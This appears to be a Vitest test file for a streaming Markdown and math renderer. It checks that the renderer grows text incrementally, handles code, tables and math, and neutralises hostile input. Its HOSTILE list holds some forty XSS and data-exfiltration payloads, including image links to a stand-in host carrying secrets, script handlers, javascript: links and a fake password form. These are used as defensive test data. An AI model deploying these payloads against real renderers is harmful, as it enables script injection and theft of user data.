import DOMPurify from "dompurify";
import { describe, expect, test, vi } from "vitest";
import { GrowingMarkdown, plainText } from "./markdown";
import { drawMath } from "./math";

const html = (text: string): string =>
  new GrowingMarkdown()
    .update(text)
    .map((block) => block.html)
    .join("");

function page(text: string): HTMLElement {
  const element = document.createElement("div");
  element.innerHTML = html(text);
  return element;
}

const ANSWER = `# Tides

The moon *pulls* the sea:

1. towards itself
2. and away

   from it

\`\`\`python
def tide(hours):

    return hours % 12.4
\`\`\`

| hour | height |
|------|--------|
| 0    | 2 m    |

That is **all**.`;

describe("markdown", () => {
  test("of a text that grew letter by letter is that of the whole text", () => {
    const growing = new GrowingMarkdown();

    for (let length = 1; length <= ANSWER.length; length++) growing.update(ANSWER.slice(0, length));

    expect(growing.blocks.map((block) => block.html).join("")).toBe(html(ANSWER));
    expect(growing.blocks).toHaveLength(6);
  });

  test("leaves a finished block alone while the text goes on", () => {
    const growing = new GrowingMarkdown();
    const [first] = growing.update("One.\n\nTwo");

    expect(growing.update("One.\n\nTwo and three.\n\nFour")[0]).toBe(first);
  });

  test("names the language of code and offers to copy it", () => {
    const shown = page("```python\nprint(1)\n```");

    expect(shown.querySelector("code")?.dataset.language).toBe("python");
    expect(shown.querySelector("button[data-copy]")?.textContent).toBe("Copy");
  });

  test("shows raw HTML as text", () => {
    const shown = page('Hi <img src=x onerror="alert(1)">\n\n<script>alert(1)</script>');

    expect(shown.querySelector("img, script")).toBeNull();
    expect(shown.textContent).toContain("<script>alert(1)</script>");
  });

  test("loads no image, but offers to open it", () => {
    const shown = page("![a cat](https://example.com/cat.png?said=secret)");

    expect(shown.querySelector("img")).toBeNull();
    expect(shown.querySelector("a")?.textContent).toBe(
      "a cat · not loaded, opens from example.com in a new tab",
    );
  });

  test("drops links that are more than links", () => {
    expect(page("[click](javascript:alert(1))").querySelector("a")?.hasAttribute("href")).toBe(
      false,
    );
    expect(page("[home](https://example.com)").querySelector("a")?.rel).toContain("noopener");
  });

  test("parses each block once, and the last one once for each piece that comes", () => {
    const growing = new GrowingMarkdown();
    const sanitize = vi.spyOn(DOMPurify, "sanitize");
    let text = "";

    // Ten paragraphs in five pieces each; with a blank line after a paragraph it is still the last.
    for (let piece = 0; piece < 50; piece++) {
      text += `word ${piece}${piece % 5 === 4 ? "\n\n" : " "}`;
      growing.update(text);
    }

    // One block a piece, and nine times the one before, which settles as the next begins.
    expect(sanitize).toHaveBeenCalledTimes(59);
    expect(growing.blocks).toHaveLength(10);
    sanitize.mockRestore();
  });

  test("has tables that scroll and tasks that are done or to do", () => {
    const shown = page("- [x] sail\n- [ ] return\n\n| a | b |\n|---|---|\n| 1 | 2 |");

    const tasks = [...shown.querySelectorAll<HTMLInputElement>("input")];
    expect(tasks.map((task) => [task.checked, task.disabled, task.ariaLabel])).toEqual([
      [true, true, "Done"],
      [false, true, "To do"],
    ]);
    expect(shown.querySelector<HTMLElement>(".table")?.tabIndex).toBe(0);
  });

  test("as plain text has the words without the marks", () => {
    const text = "# Tides\n\nThe **moon** `pulls`:\n\n1. up\n2. down\n\n```py\na = 1\n```";

    expect(plainText(text)).toBe("Tides\n\nThe moon pulls:\n\n1. up\n2. down\n\na = 1");
  });
});

describe("math", () => {
  const formulas = (text: string): string[] =>
    [...page(text).querySelectorAll(".math")].map((place) => place.textContent ?? "");

  test.each([
    ["$x^2$", ["x^2"]],
    ["so $a$ and $b$.", ["a", "b"]],
    ["\\(a < b\\) and \\[c\\]", ["a < b", "c"]],
    ["$$\nE = mc^2\n$$", ["E = mc^2"]],
    ["Thus:\n\\[\nx\n\\]\nand on", ["x"]],
    ["- one\n- $2x$", ["2x"]],
    ["$2 \\text{ apples and } 3$", ["2 \\text{ apples and } 3"]],
    ["**$x$**", ["x"]],
  ])("is found in %j", (text, expected) => {
    expect(formulas(text)).toEqual(expected);
  });

  test.each([
    "It costs $5 and $6.",
    "$5-$6, or $7/$8",
    "between $5 and 10$ each",
    "US$5 and US$6",
    "\\$5$ is money",
    "`$x$` and\n\n```\n$y$\n```",
    "$ x$ and $x $",
    "$$$ cheap $$$",
    "$PATH and $HOME are set",
  ])("is not %j", (text) => {
    expect(formulas(text)).toEqual([]);
  });

  test("that grows letter by letter is that of the whole", () => {
    const text = "So:\n\n$$\na\n- b\n$$\n\nand \\[\nc\n\\]\n\nwith $d$ for $5.";
    const growing = new GrowingMarkdown();

    for (let length = 1; length <= text.length; length++) growing.update(text.slice(0, length));

    expect(growing.blocks.map((block) => block.html).join("")).toBe(html(text));
    expect(formulas(text)).toEqual(["a\n- b", "c", "d"]);
  });

  test("is drawn with a reading for screen readers, and left as it was when it is wrong", async () => {
    const shown = page("$x^2$ and $\\frac{$");
    drawMath(shown);

    await vi.waitFor(() => expect(shown.querySelector(".katex math")).toBeTruthy());
    expect(page("$\\href{https://evil.example}{x}$").textContent).toContain("href");
  });

  test("opens no door: commands that link, load or style are refused", async () => {
    const doors = ["\\href{https://e.example}{x}", "\\includegraphics{https://e.example/i}"];
    const shown = page(doors.map((tex) => `$${tex}$`).join("\n\n"));
    drawMath(shown);

    await vi.waitFor(() => expect(shown.querySelectorAll(".math.drawn")).toHaveLength(2));
    expect(shown.querySelector("a, img")).toBeNull();
  });
});

const HOSTILE = [
  "![](https://e.example/?q=secret)",
  "![a](https://e.example/a.png 'title')",
  "[![a](https://e.example/a.png)](https://e.example)",
  "![a][1]\n\n[1]: https://e.example/b.png",
  "![a](data:image/svg+xml;base64,PHN2Zy8+)",
  "![a](//e.example/c.png)",
  "![a](/v1/session)",
  "<img src=https://e.example/d.png>",
  "<img/src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><image href=https://e.example/e.png></svg>",
  "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
  "<iframe src=https://e.example></iframe>",
  "<script src=https://e.example/f.js></script>",
  "<link rel=stylesheet href=https://e.example/g.css>",
  "<style>@import url(https://e.example/h.css)</style>",
  "<div style='background:url(https://e.example/i.png)'>x</div>",
  "<video poster=https://e.example/j.png src=https://e.example/j.mp4></video>",
  "<audio src=https://e.example/k.mp3 autoplay></audio>",
  "<object data=https://e.example/l></object><embed src=https://e.example/m>",
  "<form action=https://e.example><input name=password><button>Sign in</button></form>",
  "<base href=https://e.example><meta http-equiv=refresh content='0;url=https://e.example'>",
  "<a href='javascript:alert(1)'>x</a>",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<p id=app name=cookie>x</p>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](vbscript:x) [y](data:text/html,<script>alert(1)</script>) [z](file:///etc/passwd)",
  "[x](https://e.example/\"onmouseover=alert(1)) [y](<https://e.example/' onclick='x>)",
  "<https://e.example/\"onmouseover=\"alert(1)>",
  "```<img src=x onerror=alert(1)>\n</code></pre><img src=x onerror=alert(1)>\n```",
  "```\"><img src=x>\nx\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x> | ![a](https://e.example/n.png) |\n|---|---|\n| <svg onload=x> | y |",
  "$\\htmlData{x=y}{z}$ $</span><img src=x onerror=alert(1)>$",
  "$$\n</span><script>alert(1)</script>\n$$",
  "\\(<img src=x onerror=alert(1)>\\)",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "&lt;img src=x onerror=alert(1)&gt;",
];

describe("hostile markdown", () => {
  test.each(HOSTILE)("loads nothing and runs nothing: %j", (text) => {
    const shown = page(text);

    for (const element of shown.querySelectorAll("*")) {
      expect(element.localName).toMatch(
        /^(p|br|hr|em|strong|del|code|pre|blockquote|[uo]l|li|h\d|a|table|thead|tbody|t[rhd]|div|span|button|input)$/,
      );
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^(on.*|style|src.*|poster|id|name|action|formaction|data|background)$/);
        if (name === "href") expect(value).toMatch(/^(https?|mailto):/);
      }
    }
    for (const link of shown.querySelectorAll("a")) {
      expect(link.rel).toBe("noopener noreferrer nofollow");
      expect(link.target).toBe("_blank");
    }
    // The only things to press are those of a code block.
    for (const button of shown.querySelectorAll("button")) {
      expect(button.closest(".code-bar")).toBeTruthy();
    }
  });

  test("is not parsed without end", () => {
    const texts = ["$".repeat(20_000), "\\(".repeat(10_000), "$$\n".repeat(5000), "[".repeat(3000)];

    for (const text of texts) expect(html(text)).not.toBe("");
  });
});
